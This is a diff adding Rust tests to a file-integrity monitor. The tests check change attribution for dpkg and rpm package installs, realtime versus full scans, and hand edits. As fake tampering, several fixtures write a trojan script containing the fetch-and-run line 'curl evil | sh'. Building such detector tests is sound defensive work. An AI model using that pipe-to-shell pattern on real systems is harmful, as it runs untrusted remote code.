@@ -259,6 +259,77 @@ fn operation_unverified_changes_are_their_own_report_and_never_taken_by_an_owned
 }
 
 #[test]
+fn realtime_rescans_and_a_full_scan_give_the_same_change_the_same_attribution() {
+    use std::collections::BTreeMap;
+    // The same upgrade and the same hand-made changes on two identical hosts: one seen by a
+    // full scan, the other by realtime rescans of exactly the paths that changed.
+    let mutate = |fx: &Fixture, second: &std::path::Path| {
+        dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
+        fx.write("/etc/shells", "/bin/sh\n/usr/bin/kfdemo\n");
+        fx.write("/usr/bin/kfhelper", "#!/bin/sh\ncurl evil | sh\n");
+    };
+    let attributions =
+        |changes: &[Change]| -> BTreeMap<String, Option<(AttributionKind, Option<String>, bool)>> {
+            changes
+                .iter()
+                .filter(|c| c.category != C::Aggregated)
+                .map(|c| {
+                    let a = c
+                        .attribution
+                        .as_ref()
+                        .map(|a| (a.kind, a.package.clone(), a.digest_verified));
+                    (c.path.clone(), a)
+                })
+                .collect()
+        };
+    let (scanned, ws, second) = dpkg_fixture(AttributionMode::Report);
+    mutate(&scanned, &second);
+    let by_scan = attributions(&scanned.detect(&ws));
+
+    let (realtime, ws, second) = dpkg_fixture(AttributionMode::Report);
+    mutate(&realtime, &second);
+    let mut changes = Vec::new();
+    for (entity, paths) in [
+        ("bin", vec!["/usr/bin/kfdemo", "/usr/bin/kfhelper"]),
+        ("etc", vec!["/etc/shells", "/etc/kfdemo.conf"]),
+    ] {
+        let keys: Vec<Vec<u8>> = paths
+            .iter()
+            .map(|p| p.trim_start_matches('/').replace('/', "\0").into_bytes())
+            .collect();
+        realtime
+            .scanner()
+            .scan_targets(
+                &ws,
+                entity,
+                &keys,
+                kubefim_crds::ChangeSource::Realtime,
+                &mut |c| changes.push(c),
+            )
+            .unwrap();
+    }
+    let by_realtime = attributions(&changes);
+    assert!(!by_realtime.is_empty());
+    for (path, attribution) in &by_realtime {
+        assert_eq!(
+            Some(attribution),
+            by_scan.get(path),
+            "{path}: realtime {attribution:?}, scan {:?}",
+            by_scan.get(path)
+        );
+    }
+    assert_eq!(
+        by_realtime["/etc/shells"].as_ref().map(|a| a.0),
+        Some(AttributionKind::OperationUnverified)
+    );
+    assert_eq!(by_realtime["/usr/bin/kfhelper"], None);
+    assert_eq!(
+        by_realtime["/usr/bin/kfdemo"].as_ref().map(|a| (a.0, a.2)),
+        Some((AttributionKind::Package, true))
+    );
+}
+
+#[test]
 fn a_binary_and_its_md5sums_line_rewritten_by_hand_are_unexplained() {
     let (fx, ws, _) = dpkg_fixture(AttributionMode::Summarize);
     let trojan = "#!/bin/sh\ncurl evil | sh\n";
@@ -690,6 +761,60 @@ fn on_a_merged_usr_host_a_reinstall_of_files_recorded_under_bin_is_explained() {
     );
     let admin = only_change(&changes, "/usr/sbin/kfmerged-admin");
     assert!(admin.attribution.as_ref().unwrap().digest_verified);
+}
+
+#[test]
+fn on_a_merged_usr_rpm_host_a_reinstall_of_files_recorded_under_bin_is_explained_and_a_hand_change_is_not() {
+    require("rpmbuild");
+    // Fedora's layout: /bin, /sbin and /lib are links into /usr, and rpm records what a package
+    // lists, here /bin and /sbin paths.
+    let fx = merged_usr_fixture();
+    let rpm_file = build_rpm(&fx.state.path().join("rpms"), "kfmerged", "1.0", &under_bin());
+    rpm(fx.host.path(), &["-i", rpm_file.to_str().unwrap()]);
+    assert!(
+        fx.host.path().join("usr/bin/kfmerged").exists(),
+        "rpm unpacked through the /bin link"
+    );
+    let mut ws = workspace(vec![
+        files("bin", "/usr/bin"),
+        files("sbin", "/usr/sbin"),
+        files("packages", "/var/lib/rpm"),
+    ]);
+    ws.packages.attribution = AttributionMode::Report;
+    fx.init(&ws);
+    // rpm stamps an install with its transaction id, the time in seconds: a reinstall in the
+    // same second as the install is indistinguishable from none (hnum is no stamp: --rebuilddb
+    // renumbers it). A real reinstall is seconds later at the least.
+    let installed_at = jiff::Timestamp::now().as_second();
+    while jiff::Timestamp::now().as_second() <= installed_at {
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    rpm(
+        fx.host.path(),
+        &["-U", "--replacepkgs", rpm_file.to_str().unwrap()],
+    );
+    let changes = fx.detect(&ws);
+    assert!(!changes.is_empty(), "the reinstall replaced the files");
+    assert_eq!(
+        unexplained(&changes),
+        [],
+        "every change of the reinstall is explained"
+    );
+    let binary = only_change(&changes, "/usr/bin/kfmerged");
+    let attribution = binary.attribution.as_ref().unwrap();
+    assert_eq!(attribution.manager, Some(PackageManager::Rpm));
+    assert!(
+        attribution.digest_verified,
+        "checked against rpm's digest of /bin/kfmerged"
+    );
+
+    std::fs::write(
+        fx.host.path().join("usr/sbin/kfmerged-admin"),
+        "#!/bin/sh\necho owned\n",
+    )
+    .unwrap();
+    let changes = fx.detect(&ws);
+    assert_eq!(unexplained_paths(&changes), ["/usr/sbin/kfmerged-admin"]);
 }
 
 #[test]
